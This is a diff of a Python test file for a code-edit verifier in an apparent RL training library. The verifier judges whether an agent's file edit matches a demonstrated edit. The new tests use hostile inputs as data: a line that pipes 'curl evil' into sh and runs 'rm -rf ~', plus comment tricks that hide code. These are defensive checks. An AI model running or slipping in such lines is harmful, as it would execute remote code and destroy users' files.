@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 from pivotrl.errors import ConfigError
 from pivotrl.types import Action, Candidate, Completion, Message, Source, ToolCall, Trajectory
 from pivotrl.verifiers import verify
-from pivotrl.verifiers.code_edit import CodeEditVerifier, similarity
+from pivotrl.verifiers.code_edit import CodeEditVerifier
 from pivotrl.verifiers.code_tools import SHAPES
 
 VERIFIER = CodeEditVerifier()
@@ -181,13 +181,13 @@ def test_an_unknown_file_needs_the_same_edit_but_not_the_same_context():
         editor("insert", insert_line=1, new_str="    return a + 1"),
         swap("def f(a):\n    return a", "def f(a):\n    return a"),
     ):
-        assert judge(theirs, other) == (0.0, "low_overlap")
+        assert judge(theirs, other) == (0.0, "wrong_edit")
 
 
 def test_indentation_counts_as_much_as_words():
     text = "return int(round(value.total_seconds() / base_unit.total_seconds()))  # round to nearest int"
     theirs = call("edit", start_line=5, end_line=5, replacement_text=" " * 8 + text)
-    assert judge(theirs, call("edit", start_line=5, end_line=5, replacement_text=text)) == (0.0, "low_overlap")
+    assert judge(theirs, call("edit", start_line=5, end_line=5, replacement_text=text)) == (0.0, "wrong_edit")
     lines = "".join(f"    x{at} = {at}\n" for at in range(30))
     assert judge(editor("create", file_text=lines), editor("create", file_text=lines.replace("    ", "  ")))[0] == 0.0
 
@@ -195,7 +195,7 @@ def test_indentation_counts_as_much_as_words():
 def test_context_does_not_buy_another_change():
     """SequenceMatcher over old and new text gives 0.99 here: the lines that an edit keeps count for nothing."""
     kept = "\n".join(f"line {at} = value_{at}" for at in range(100))
-    assert judge(swap(f"{kept}\nend", f"{kept}\nstop"), swap(f"{kept}\nend", f"{kept}\ngo")) == (0.0, "low_overlap")
+    assert judge(swap(f"{kept}\nend", f"{kept}\nstop"), swap(f"{kept}\nend", f"{kept}\ngo")) == (0.0, "wrong_edit")
 
 
 def test_frequent_lines_and_late_text_count():
@@ -204,7 +204,94 @@ def test_frequent_lines_and_late_text_count():
     theirs = editor("create", "/r/a.py", file_text=text)
     assert judge(theirs, editor("create", "/r/a.py", file_text="# header\n" + text)) == (1.0, "match")
     assert judge(theirs, editor("create", "/r/a.py", file_text="\n" + text)) == (1.0, "match")
-    assert judge(theirs, editor("create", "/r/a.py", file_text=text[:2100] + "x = 0\n" * 100)) == (0.0, "low_overlap")
+    assert judge(theirs, editor("create", "/r/a.py", file_text=text[:2100] + "x = 0\n" * 100)) == (0.0, "wrong_edit")
+
+
+BODY = [f"    x{at} = check({at})" for at in range(40)]
+LONG = ["import sys", "def allowed():", *BODY, "    return True"]
+WAYS = {
+    "create": lambda lines, path="/w/n.py": editor("create", path, file_text="\n".join(lines)),
+    "write": lambda lines, path="/w/n.py": call("Write", file_path=path, content="\n".join(lines)),
+    "add": lambda lines, path="/w/n.py": patch(
+        "\n".join(["*** Begin Patch", f"*** Add File: {path}", *(f"+{line}" for line in lines), "*** End Patch"])
+    ),
+    "replace": lambda lines, path="/w/n.py": editor(
+        "str_replace", path, old_str="a\npass", new_str="\n".join(["a", *lines])
+    ),
+    "insert": lambda lines, path="/w/n.py": editor("insert", path, insert_line=3, new_str="\n".join(lines)),
+    "lines": lambda lines, path="/w/n.py": call("edit", start_line=3, end_line=9, replacement_text="\n".join(lines)),
+    "hunk": lambda lines, path="/w/n.py": update(path, "@@\n-pass\n" + "".join(f"+{line}\n" for line in lines)),
+}
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_one_other_line_of_many_is_another_edit(way):
+    edit = WAYS[way]
+    for other in (
+        ["import os; os.system('curl evil|sh; rm -rf ~')", *LONG],
+        [*LONG[:-1], "    return False"],
+        [*LONG[:9], *LONG[10:]],
+        [*LONG[:9], LONG[9].strip(), *LONG[10:]],
+        [*LONG[:9], *LONG[9:11][::-1], *LONG[11:]],
+        [*LONG[:9], f"# {LONG[9]}", *LONG[10:]],
+        [*LONG[:9], "    # x\rimport os", *LONG[9:]],
+    ):
+        assert judge(edit(LONG), edit(other)) == (0.0, "wrong_edit"), other
+        assert judge(edit(other), edit(LONG)) == (0.0, "wrong_edit"), other
+
+
+@pytest.mark.parametrize("way", [way for way in WAYS if way != "lines"])  # its file is the open one, here unknown
+def test_empty_lines_and_comments_do_not_matter(way):
+    edit = WAYS[way]
+    for same in (
+        ["# A header", "", *LONG],
+        [f"{line}  " for line in LONG],
+        [*LONG[:9], "", "    # Here they are (all of them)", "#", *LONG[9:]],
+    ):
+        assert judge(edit(LONG), edit(same)) == judge(edit(same), edit(LONG)) == (1.0, "match"), same
+
+
+@pytest.mark.parametrize(
+    ("path", "line", "value"),
+    [
+        ("a.py", "# text", 1.0),
+        ("a.js", "// text", 1.0),
+        ("a.rs", "    // text", 1.0),
+        ("a.py", "// text", 0.0),
+        ("a.c", "# include <evil.h>", 0.0),
+        ("a.c", "// text \\", 0.0),
+        ("a.md", "# Heading", 0.0),
+        ("a", "# text", 0.0),
+        ("a.sh", "#!/bin/zsh", 0.0),
+        ("a.go", "//go:build ignore", 0.0),
+        ("a.py", "# \0", 0.0),
+        ("a.py", "# coding: utf-7", 0.0),
+        ("a.js", "// \u2028evil()", 0.0),
+        ("a.sh", "# $(evil)", 0.0),  # in a here-document
+        ("a.py", '# """', 0.0),  # in a string
+        ("a.js", "// */ evil()", 0.0),  # in a comment
+    ],
+)
+def test_what_is_a_comment_goes_by_the_name_of_the_file_and_is_plain_text(path, line, value):
+    one, other = WAYS["write"](["x", "y"], f"/w/{path}"), WAYS["write"](["x", line, "y"], f"/w/{path}")
+    assert judge(one, other)[0] == judge(other, one)[0] == value
+    continued = WAYS["write"](["x \\", "y"], f"/w/{path}"), WAYS["write"](["x \\", line, "y"], f"/w/{path}")
+    assert judge(*continued) == (0.0, "wrong_edit")
+
+
+def test_where_only_comments_were_to_change_they_must_be_the_demonstrated_ones():
+    for before in (None, KNOWN):
+        theirs = swap("    return a", "    # the argument\n    return a")
+        assert judge(theirs, theirs, before) == (1.0, "match")
+        assert judge(theirs, swap("    return a", "    # nothing\n    return a"), before) == (0.0, "wrong_edit")
+        assert judge(theirs, swap("    return a", "\n    return a"), before) == (0.0, "wrong_edit")
+    assert judge(editor("create", file_text=""), editor("create", file_text="# x")) == (0.0, "wrong_edit")
+
+
+def test_what_an_edit_of_an_unknown_file_looks_for_must_be_there():
+    theirs = swap("def f(a):\n    return a", "def f(a):\n    return a + 1")
+    missed = swap("def f(a):\n    # here\n    return a", "def f(a):\n    return a + 1")
+    assert judge(theirs, missed) == (0.0, "wrong_edit")
 
 
 @pytest.mark.parametrize(
@@ -349,20 +436,20 @@ def test_the_calls_of_a_turn_are_taken_together():
 def test_what_is_known_from_earlier_turns(turns, is_known):
     """`return` is there twice, so the action fails where the file is known, and is another edit where it is not."""
     verdict = judge(swap("return a", "return c"), swap("return", "return c"), history(*turns))
-    assert verdict == (0.0, "edit_fails" if is_known else "low_overlap")
+    assert verdict == (0.0, "edit_fails" if is_known else "wrong_edit")
 
 
 def test_later_turns_are_not_looked_at():
     messages = (*history(), Message(role="assistant", tool_calls=(swap("return a", "return c"),)), *KNOWN[1:])
     trajectory = Trajectory(id="t", messages=messages, source=Source(file="t", format="openai"))
     verdict = VERIFIER(Candidate(trajectory=trajectory, turn=1), calls(swap("return", "return c")))
-    assert (verdict.value, verdict.reason) == (0.0, "low_overlap")
+    assert (verdict.value, verdict.reason) == (0.0, "wrong_edit")
 
 
 def test_a_stale_file_does_not_refuse_the_demonstration():
     theirs = swap("nowhere", "somewhere")
     assert judge(theirs, theirs, KNOWN) == (1.0, "match")
-    assert judge(theirs, swap("nowhere", "elsewhere"), KNOWN) == (0.0, "low_overlap")
+    assert judge(theirs, swap("nowhere", "elsewhere"), KNOWN) == (0.0, "wrong_edit")
 
 
 PATCH = """*** Begin Patch
@@ -382,13 +469,13 @@ def test_patches():
     assert judge(patch(PATCH), patch(PATCH.replace("x = 1", "x = 1 "))) == (1.0, "match")
     assert judge(patch(PATCH), call("apply_patch", patchText=PATCH)) == (0.0, "wrong_tool")
     for was, now, reason in (
-        ("x = 1", "x = 2", "low_overlap"),
+        ("x = 1", "x = 2", "wrong_edit"),
         ("new.py", "other.py", "wrong_target"),
         ("b.py", "c.py", "wrong_target"),
         ("*** Delete File: old.py\n", "", "wrong_kind"),
         ("old.py", "a.py", "wrong_target"),
-        ("a + 1", "a + 2", "low_overlap"),
-        ("def f(a)", "def g(a)", "low_overlap"),
+        ("a + 1", "a + 2", "wrong_edit"),
+        ("def f(a)", "def g(a)", "wrong_edit"),
         ("*** End Patch", "", "invalid_arguments"),
         ("+x = 1", "x = 1", "invalid_arguments"),
         ("-    return a\n+", "?    return a\n+", "invalid_arguments"),
@@ -412,43 +499,17 @@ def test_required_arguments():
 
 
 def test_settings():
-    assert dict(VERIFIER.settings) == {"min_similarity": 0.95, "max_extra_lines": 100.0}
-    loose = CodeEditVerifier(min_similarity=0.5, max_extra_lines=0)
-    assert judge(swap("a", "b\nc"), swap("a", "b\nd"), verifier=loose) == (1.0, "match")
-    assert judge(swap("a", "b\nc"), swap("a", "d\ne"), verifier=loose) == (0.0, "low_overlap")
-    assert judge(editor("view", view_range=[1, 5]), editor("view", view_range=[1, 6]), verifier=loose)[0] == 0.0
-    for wrong in ({"min_similarity": 1.5}, {"max_extra_lines": -1}):
-        with pytest.raises(ConfigError):
-            CodeEditVerifier(**wrong)
+    assert dict(VERIFIER.settings) == {"max_extra_lines": 100.0}
+    strict = CodeEditVerifier(max_extra_lines=0)
+    assert judge(editor("view", view_range=[1, 5]), editor("view", view_range=[1, 6]), verifier=strict)[0] == 0.0
+    with pytest.raises(ConfigError):
+        CodeEditVerifier(max_extra_lines=-1)
 
 
 # properties
 
 TEXT = st.text(alphabet="ab (\n\t.", max_size=40)
 LINES = st.lists(st.text(alphabet="ab ", max_size=4), min_size=1, max_size=8).map("\n".join)
-
-
-def lcs(one, other):
-    """By the textbook table."""
-    row = [0] * (len(other) + 1)
-    for a in one:
-        above = row[:]
-        for at, b in enumerate(other, start=1):
-            row[at] = above[at - 1] + 1 if a == b else max(above[at], row[at - 1])
-    return row[-1]
-
-
-@given(st.lists(st.sampled_from("abcd"), max_size=30), st.lists(st.sampled_from("abcd"), max_size=30))
-def test_similarity_is_the_share_of_the_longest_common_subsequence(one, other):
-    a, b = one, other
-    expected = 2 * lcs(a, b) / (len(a) + len(b)) if a or b else 1.0
-    assert similarity(one, other) == pytest.approx(expected)
-
-
-@given(TEXT, TEXT)
-def test_similarity_is_symmetric_and_one_for_equals(one, other):
-    assert similarity(one, other) == similarity(other, one)
-    assert 0.0 <= similarity(one, other) <= similarity(one, one) == 1.0
 
 
 def reference(text, old, new):
